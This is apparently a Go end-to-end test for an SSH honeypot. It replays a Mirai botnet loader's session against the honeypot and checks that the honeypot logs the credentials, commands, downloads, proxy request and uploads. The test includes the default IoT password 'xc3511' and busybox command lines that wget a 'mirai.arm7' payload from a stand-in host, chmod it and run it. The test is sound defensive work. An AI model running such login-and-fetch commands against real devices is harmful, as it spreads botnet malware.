package e2e

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// sshListen is one web listener and one ssh listener, on port 0.
var sshListen = []string{"--listen", "web=127.0.0.1:0", "--listen", "ssh=127.0.0.1:0", "--listen", "telnet=off"}

// sshTools finds Debian's OpenSSH client and sshpass (scripts/deps.sh
// installs them), or skips.
func sshTools(t *testing.T) (ssh, scp, sshpass string) {
	t.Helper()
	var err error
	for _, p := range []*string{&ssh, &scp, &sshpass} {
		name := map[*string]string{&ssh: "ssh", &scp: "scp", &sshpass: "sshpass"}[p]
		if *p, err = exec.LookPath(name); err != nil {
			t.Skipf("no %s installed (scripts/deps.sh installs openssh-client and sshpass)", name)
		}
	}
	return ssh, scp, sshpass
}

// sshOpts makes the OpenSSH client behave like a bot: no known_hosts, no
// keys or agent from the machine running the test, password only, batch.
// The device is a Dropbear 2014 with ssh-rsa and ssh-dss host keys, which
// OpenSSH since 8.8 only accepts when asked to, as its users do for old
// devices.
func sshOpts(portFlag, port string) []string {
	return []string{
		portFlag, port,
		"-F", "/dev/null",
		"-o", "HostKeyAlgorithms=+ssh-rsa",
		"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "PubkeyAuthentication=no", "-o", "IdentityAgent=none",
		"-o", "PreferredAuthentications=password,keyboard-interactive",
		"-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=10",
		"-o", "LogLevel=ERROR",
	}
}

// proc is a running client whose output the test reads as it comes.
type proc struct {
	t     *testing.T
	cmd   *exec.Cmd
	stdin io.WriteCloser
	mu    sync.Mutex
	out   bytes.Buffer
	seen  int
	done  chan error
}

func startProc(t *testing.T, argv ...string) *proc {
	t.Helper()
	p := &proc{t: t, cmd: exec.Command(argv[0], argv[1:]...), done: make(chan error, 1)}
	p.stdin, _ = p.cmd.StdinPipe()
	pr, pw := io.Pipe()
	p.cmd.Stdout, p.cmd.Stderr = pw, pw
	go func() {
		buf := make([]byte, 4096)
		for {
			n, err := pr.Read(buf)
			p.mu.Lock()
			p.out.Write(buf[:n])
			p.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { p.done <- p.cmd.Wait(); pw.Close() }()
	t.Cleanup(func() { _ = p.cmd.Process.Kill() })
	return p
}

// expect waits for want in the output after what was already matched and
// returns the output up to it.
func (p *proc) expect(want string) string {
	p.t.Helper()
	var got string
	waitFor(p.t, fmt.Sprintf("%q in the ssh client's output", want), 20*time.Second, func() bool {
		p.mu.Lock()
		defer p.mu.Unlock()
		s := p.out.String()[p.seen:]
		if i := strings.Index(s, want); i >= 0 {
			got = s[:i+len(want)]
			p.seen += i + len(want)
			return true
		}
		return false
	})
	return got
}

func (p *proc) line(s string) { io.WriteString(p.stdin, s+"\n") }

func (p *proc) wait() error {
	p.t.Helper()
	select {
	case err := <-p.done:
		return err
	case <-time.After(20 * time.Second):
		p.mu.Lock()
		defer p.mu.Unlock()
		p.t.Fatalf("ssh client still running; output:\n%s", p.out.String())
		return nil
	}
}

// sshEvent is an event with the fields SSH adds.
type sshEvent struct {
	apiEvent
	ClientVersion   string `json:"client_version"`
	HASSH           string `json:"hassh"`
	HASSHAlgorithms string `json:"hassh_algorithms"`
	KexAlgs         string `json:"kex_algs"`
	TargetHost      string `json:"target_host"`
	TargetPort      int    `json:"target_port"`
	SHA256          string `json:"sha256"`
	Size            int64  `json:"upload_size"`
	Filename        string `json:"filename"`
	Tool            string `json:"tool"`
}

func (s *server) sshEvents(q url.Values) []sshEvent {
	s.t.Helper()
	var resp struct{ Events []sshEvent }
	if code := s.get("/api/v1/events", q, testToken, &resp); code != http.StatusOK {
		s.t.Fatalf("events: status %d", code)
	}
	return resp.Events
}

// TestSSHRealClient runs Debian's OpenSSH client, driven by sshpass as SSH
// bots drive theirs, against the real binary: a failed and a successful
// password login, the Mirai loader's dialogue in an interactive shell with
// a pty, an exec command, a proxy request (refused), and uploads over SCP
// and SFTP; everything checked through the API.
func TestSSHRealClient(t *testing.T) {
	ssh, scp, sshpass := sshTools(t)
	srv := startServer(t, t.TempDir(), sshListen...)
	payloadHost, hits := payloadServer(t)
	host, port, _ := net.SplitHostPort(srv.addrs["ssh"][0])
	client := func(pass string, args ...string) []string {
		return append(append([]string{sshpass, "-p", pass, ssh}, sshOpts("-p", port)...), args...)
	}

	// A wrong password: refused, and the client gives up.
	bad := startProc(t, client("not-in-the-table", "root@"+host, "true")...)
	if err := bad.wait(); err == nil {
		t.Fatal("login with a wrong password succeeded")
	}

	// The Mirai loader's dialogue over an interactive shell (-tt: a pty,
	// as bots that drive ssh with expect get).
	w := startProc(t, client("xc3511", "-tt", "root@"+host)...)
	w.expect("# ")
	for _, c := range []string{"enable", "system", "shell", "sh"} {
		w.line(c)
	}
	run := func(cmd string) string {
		t.Helper()
		w.line(cmd + "; /bin/busybox ECCHI")
		return w.expect("ECCHI: applet not found")
	}
	run("/bin/busybox ps")
	mounts := run("/bin/busybox cat /proc/mounts")
	if !strings.Contains(mounts, "tmpfs /tmp tmpfs rw") {
		t.Fatalf("/proc/mounts over ssh:\n%s", mounts)
	}
	if out := run(`/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`); !strings.Contains(out, "kami\r\n") {
		t.Fatalf("echo -e kami over ssh: %q", out)
	}
	w.line("cd /tmp/")
	run("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper")
	elf := run("/bin/busybox cat /bin/echo")
	if !strings.Contains(elf, "\x7fELF") {
		t.Fatalf("cat /bin/echo over ssh gave no ELF header")
	}
	payloadURL := "http://" + payloadHost + "/bins/mirai.arm7"
	run("/bin/busybox wget " + payloadURL + " -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper")
	run("./dvrHelper ssh.arm7")
	w.stdin.Close() // the loader hangs up when done
	if err := w.wait(); err != nil {
		t.Logf("interactive client: %v", err)
	}

	// exec: one command line, as most SSH bots send it.
	x := startProc(t, client("xc3511", "root@"+host, "cd /tmp; /bin/busybox wget http://"+payloadHost+"/x.sh; /bin/busybox MIRAI")...)
	x.expect("MIRAI: applet not found")
	x.wait()

	// A proxy request: recorded with its target, refused, never dialled.
	tun := startProc(t, client("xc3511", "-W", "192.0.2.25:25", "root@"+host)...)
	if err := tun.wait(); err == nil {
		t.Error("ssh -W through the honeypot succeeded")
	}

	// Uploads: the legacy SCP protocol (-O) and SFTP (scp's default since
	// OpenSSH 9).
	payload := bytes.Repeat([]byte("\x7fELF\x01\x01\x01 not really a bot "), 512)
	local := filepath.Join(t.TempDir(), "dvrHelper")
	if err := os.WriteFile(local, payload, 0o755); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(payload)
	sha := hex.EncodeToString(sum[:])
	for _, mode := range []string{"-O", "-s"} {
		argv := append(append([]string{sshpass, "-p", "xc3511", scp, mode}, sshOpts("-P", port)...), local, "root@"+host+":/tmp/")
		up := startProc(t, argv...)
		if err := up.wait(); err != nil {
			up.mu.Lock()
			t.Errorf("scp %s: %v\n%s", mode, err, up.out.String())
			up.mu.Unlock()
		}
	}

	// What the API shows.
	var id string
	waitFor(t, "the ssh loader's download", 20*time.Second, func() bool {
		for _, e := range srv.events(url.Values{"kind": {"file.download"}}) {
			if e.URL == payloadURL {
				id = e.Session
				return true
			}
		}
		return false
	})
	s := srv.waitClosed(id)
	if s.Family != "mirai" {
		t.Errorf("family %q, want mirai (reasons %q)", s.Family, s.Reasons)
	}
	if len(s.Credentials) != 1 || s.Credentials[0].Username != "root" || s.Credentials[0].Password != "xc3511" || !s.Credentials[0].Success {
		t.Errorf("credentials %+v", s.Credentials)
	}
	if !slices.ContainsFunc(s.Commands, func(c string) bool { return strings.Contains(c, "cp /bin/echo dvrHelper") }) {
		t.Errorf("commands %q miss the dvrHelper copy", s.Commands)
	}
	conn := srv.sshEvents(url.Values{"kind": {"session.connect"}, "session": {id}})
	if len(conn) != 1 || conn[0].Proto != "ssh" || !strings.HasPrefix(conn[0].ClientVersion, "SSH-2.0-OpenSSH_") ||
		!regexp.MustCompile(`^[0-9a-f]{32}$`).MatchString(conn[0].HASSH) || !strings.Contains(conn[0].KexAlgs, "curve25519-sha256") {
		t.Errorf("session.connect %+v", conn)
	}

	failed := srv.events(url.Values{"kind": {"login.failed"}})
	if !slices.ContainsFunc(failed, func(e apiEvent) bool {
		return e.Proto == "ssh" && e.Username == "root" && e.Password != nil && *e.Password == "not-in-the-table"
	}) {
		t.Errorf("login.failed events %+v miss the wrong password", failed)
	}
	if !slices.ContainsFunc(srv.events(url.Values{"kind": {"file.download"}}), func(e apiEvent) bool {
		return e.URL == "http://"+payloadHost+"/x.sh" && e.Proto == "ssh"
	}) {
		t.Error("the exec command's download is missing")
	}
	var tunnels []sshEvent
	waitFor(t, "the direct-tcpip.request event", 20*time.Second, func() bool {
		tunnels = srv.sshEvents(url.Values{"kind": {"direct-tcpip.request"}})
		return len(tunnels) > 0
	})
	if len(tunnels) != 1 || tunnels[0].TargetHost != "192.0.2.25" || tunnels[0].TargetPort != 25 {
		t.Errorf("direct-tcpip.request events %+v", tunnels)
	}
	var ups []sshEvent
	tools := map[string]bool{}
	waitFor(t, "file.upload events by scp and by sftp of "+sha, 20*time.Second, func() bool {
		ups = srv.sshEvents(url.Values{"kind": {"file.upload"}})
		for _, u := range ups {
			if u.SHA256 == sha && u.Size == int64(len(payload)) && u.Filename == "/tmp/dvrHelper" {
				tools[u.Tool] = true
			}
		}
		return tools["scp"] && tools["sftp"]
	})
	kept, err := os.ReadFile(filepath.Join(srv.data, "samples", sha))
	if err != nil || !bytes.Equal(kept, payload) {
		t.Errorf("sample %s: %v", sha, err)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the honeypot connected to the payload host %d times", n)
	}
}
